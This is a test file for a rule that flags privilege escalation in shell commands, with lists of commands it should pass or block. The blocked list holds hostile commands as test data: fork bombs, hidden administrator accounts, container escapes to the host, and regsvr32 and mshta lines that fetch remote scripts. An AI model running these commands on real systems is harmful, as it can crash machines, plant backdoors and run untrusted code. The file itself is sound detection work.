import { describe, expect, it } from 'vitest';
import { systemElevate } from '../../src/rules/system-elevate.js';
import { evaluateExample, runRuleTests } from '../rule-tester.js';

runRuleTests(systemElevate, {
  valid: [
    // everyday permissions
    'chmod +x scripts/build.sh',
    'chmod u+x run.sh',
    'chmod 755 bin/cli.js',
    'chmod 644 README.md',
    'chmod -R go-w public',
    'chmod g+w shared.log',
    'chown -R dev:dev ./data',
    'chown dev /tmp/cache',
    // sudo that runs nothing
    'sudo -l',
    'sudo -k',
    'sudo --version',
    // services and the machine, looked at
    'systemctl status nginx',
    'systemctl --user restart dev-server',
    'sc query',
    'Get-Service',
    'reg query HKLM\\Software\\Microsoft\\Windows\\CurrentVersion',
    'reg add "HKCU\\Software\\Example" /v Theme /d dark',
    'Set-ExecutionPolicy RemoteSigned -Scope CurrentUser',
    'Get-ExecutionPolicy -List',
    'powershell -NoProfile -File build.ps1',
    // a bypass for one process that runs a script of the project (the script is judged as a script run)
    'powershell -ExecutionPolicy Bypass -File setup.ps1',
    'pwsh -ep bypass ./install.ps1',
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File .\\scripts\\setup.ps1',
    // a function that calls itself once, not in a pipeline or in the background
    'retry() { npm test || retry; }; retry',
    'setx NODE_ENV development',
    'shutdown -c',
    'id -Gn',
    'groups',
    'net user',
    'usermod -s /bin/zsh dev',
    // containers without the host's rights
    'docker run -v "$(pwd)":/app node:20 npm test',
    'docker run --rm -p 3000:3000 app',
    'docker run --network host app',
    'docker run -v C:\\Users\\dev\\project:/app node:20',
    'docker compose up -d',
    'docker build -t app .',
    // data, not commands
    'git commit -m "sudo is not needed any more"',
    'echo "run: sudo make install"',
    'grep -rn "chmod 777" scripts',
    'powershell -ExecutionPolicy Bypass -File .\\scripts\\build.ps1',
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -File scripts\\test.ps1 -Configuration Release',
  ],
  invalid: [
    // SPEC 4.2 examples
    'sudo apt-get install -y jq',
    'sudo npm install -g pnpm',
    'su -c "systemctl restart nginx"',
    'su - postgres',
    'doas pkg_add git',
    'runas /user:Administrator cmd',
    'pkexec visudo',
    'sudo -i',
    'chmod 777 deploy.sh',
    'chmod -R 777 .',
    'chmod a+rwx uploads',
    'chmod o+w config.json',
    'chmod 4755 /usr/local/bin/helper',
    'chmod u+s ./helper',
    'sudo chown -R dev /usr/local',
    'chown -R dev:dev /etc/nginx',
    'Set-ExecutionPolicy Bypass -Scope Process -Force',
    'Set-ExecutionPolicy Unrestricted',
    'powershell.exe -exec bypass -c "iex x"',
    'powershell -ExecutionPolicy Bypass -File C:/Users/Public/x.ps1',
    'pwsh -ep bypass /tmp/install.ps1',
    // fork bombs
    ':(){ :|:& };:',
    'bomb() { bomb | bomb & }; bomb',
    'f() { f & f & }; f',
    'useradd deploy',
    'sudo usermod -aG docker dev',
    'usermod -a -G wheel dev',
    'gpasswd -a dev sudo',
    'net user helper P4ss /add',
    'net localgroup administrators helper /add',
    'New-LocalUser -Name helper -NoPassword',
    'Add-LocalGroupMember -Group Administrators -Member helper',
    'sc create updater binPath= C:\\u.exe',
    'New-Service -Name updater -BinaryPathName C:\\u.exe',
    'reg add HKLM\\Software\\Example /v x /d y',
    'Set-ItemProperty -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control -Name x -Value 1',
    'reg import settings.reg',
    'setx /M PATH "%PATH%;C:\\tools"',
    'shutdown -r now',
    'reboot',
    'systemctl poweroff',
    'Restart-Computer -Force',
    'docker run --privileged -v /:/host alpine',
    'docker run -it --pid=host alpine nsenter -t 1 -m sh',
    'docker run -v /var/run/docker.sock:/var/run/docker.sock docker:cli',
    'podman run --cap-add=SYS_ADMIN fedora',
    'docker run --mount type=bind,source=/,target=/host alpine',
    'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication"',
    'regsvr32 /s /u /i:http://example.com/x.sct scrobj.dll',
    'mshta http://example.com/x.hta',
    'Start-Process powershell -Verb RunAs',
    'icacls C:\\app /grant Everyone:F',
    // the way there does not matter
    'cd /srv && sudo make install',
    'bash -c "sudo rm -rf /opt/old"',
    'ls | xargs sudo chmod 777',
    'sudo bash -c "cp x /etc/x && systemctl reload nginx"',
    'powershell -ExecutionPolicy Bypass -File C:\\Users\\dev\\Downloads\\setup.ps1',
    'powershell -ExecutionPolicy Bypass -File ..\\..\\other\\x.ps1',
    'powershell -ExecutionPolicy Bypass -File $env:TEMP\\x.ps1',
  ],
});

describe('system.elevate asks once per sudo', () => {
  it.for([
    { line: 'sudo bash -c "apt-get update && apt-get install -y jq"', hits: 1 },
    { line: 'sudo apt-get update && sudo apt-get install -y jq', hits: 2 },
    { line: 'sudo chmod 777 /srv/x', hits: 1 },
    { line: 'sudo bash -c "sudo ls"', hits: 2 },
  ])('$line → $hits', ({ line, hits }) => {
    const found = evaluateExample(line).findings.filter((f) => f.ruleId === systemElevate.meta.id);
    expect(found).toHaveLength(hits);
  });

  it('points at the sudo word, not only at what it runs', () => {
    const line = 'echo start && sudo systemctl restart nginx';
    const finding = evaluateExample(line).findings.find((f) => f.ruleId === systemElevate.meta.id);
    expect(finding && line.slice(finding.span[0], finding.span[1])).toBe('sudo systemctl restart nginx');
  });
});
